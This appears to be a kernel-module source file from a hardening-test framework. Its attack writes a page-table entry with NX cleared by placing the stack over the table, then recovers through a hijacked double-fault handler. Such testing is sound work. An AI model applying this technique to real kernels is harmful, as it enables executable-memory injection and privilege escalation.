/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Puts the stack on a page table: what PUSH, CALL, ENTER and the delivery of an exception leave there becomes an
 * entry. Where that is refused no other exception can be delivered there either, and a double fault follows,
 * which has a stack of its own: from its handler the attack comes back.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/entry-common.h>
#include <linux/io.h>
#include <linux/kdebug.h>
#include <linux/rcupdate.h>
#include <asm/trapnr.h>

#define WAYS 4
/* The stack begins at the table's end: the handler of the exception has room. */
#define INDEX (ATTACK_ENTRIES - 1)

/*
 * pt_stack_on - does one of the others on the stack, with entry in RDX and RBP; comes back once, by way of
 * pt_stack_back.
 */
void pt_stack_on(u64 *stack, void (*what)(void), u64 entry);
void pt_stack_back(void);
void pt_stack_push(void);
void pt_stack_call(void);
void pt_stack_enter(void);
void pt_stack_event(void);
extern unsigned long pt_stack_saved;
extern const u8 pt_stack_int3[];

asm(".pushsection .text\n"
    "pt_stack_on:\n\t"
    "push %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n\t"
    "mov %rsp, pt_stack_saved(%rip)\n\t"
    "mov %rdi, %rsp\n\t"
    "mov %rdx, %rbp\n\t"
    "jmp *%rsi\n"
    "pt_stack_back:\n\t"
    "mov pt_stack_saved(%rip), %rsp\n\t"
    "pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\t"
    "ret\n"
    "pt_stack_push:\n\t"
    "push %rdx\n\t"
    "jmp pt_stack_back\n"
    "pt_stack_call:\n\t"
    "call pt_stack_back\n"
    "pt_stack_enter:\n\t"
    "enter $0, $0\n\t"
    "jmp pt_stack_back\n"
    "pt_stack_event:\n\t"
    "int3\n"
    "pt_stack_int3:\n\t"
    "jmp pt_stack_back\n"
    ".popsection\n");

unsigned long pt_stack_saved;
static void (*leave_nmi)(struct pt_regs *regs, irqentry_state_t state);
static unsigned int done, doubles;
static bool trying;

static int on_die(struct notifier_block *block, unsigned long value, void *data)
{
	const struct die_args *args = data;

	(void)block;
	if (!trying)
		return NOTIFY_DONE;
	if (value == DIE_INT3 && args->regs->ip == (unsigned long)pt_stack_int3)
		return NOTIFY_STOP;
	if (value != DIE_TRAP || args->trapnr != X86_TRAP_DF)
		return NOTIFY_DONE;
	doubles++;
	/* What the way here has begun: atomic_notifier_call_chain(), exc_double_fault(). */
	rcu_read_unlock();
	leave_nmi(args->regs, (irqentry_state_t){});
	asm volatile("jmp pt_stack_back");
	unreachable();
}

static struct notifier_block on_die_block = {.notifier_call = on_die, .priority = INT_MAX};

static void put(u64 *table, void (*what)(void), u64 hostile)
{
	const u64 before = table[INDEX];
	unsigned long flags;

	local_irq_save(flags);
	trying = true;
	pt_stack_on(&table[ATTACK_ENTRIES], what, hostile);
	trying = false;
	done += READ_ONCE(table[INDEX]) != before;
	local_irq_restore(flags);
}

static int attempt(void)
{
	static void (*const ways[WAYS])(void) = {pt_stack_push, pt_stack_call, pt_stack_enter,
						 pt_stack_event};
	void *page = attack_page(0);
	const u64 lawful = virt_to_phys(page) | ATTACK_DATA;

	leave_nmi = (void *)attack_symbol("irqentry_nmi_exit");
	if (!attack_area() || !page || !leave_nmi)
		return -ENOMEM;
	register_die_notifier(&on_die_block);
	for (unsigned int i = 0; i < WAYS; i++) {
		u64 *table = attack_page(0);

		if (!table)
			break;
		table[INDEX] = lawful;
		if (attack_link(table))
			put(table, ways[i], lawful & ~_PAGE_NX);
		attack_link(NULL);
	}
	unregister_die_notifier(&on_die_block);
	return 0;
}

static bool effect(void)
{
	attack_detail("%u of %u ways, %u double faults", done, WAYS, doubles);
	return attack_tries(done, WAYS);
}

static const struct attack pt_stack = {
	"pt_stack", "page-table-store,kernel-exec", NULL, attempt, effect, NULL};
ATTACK_MODULE(pt_stack);
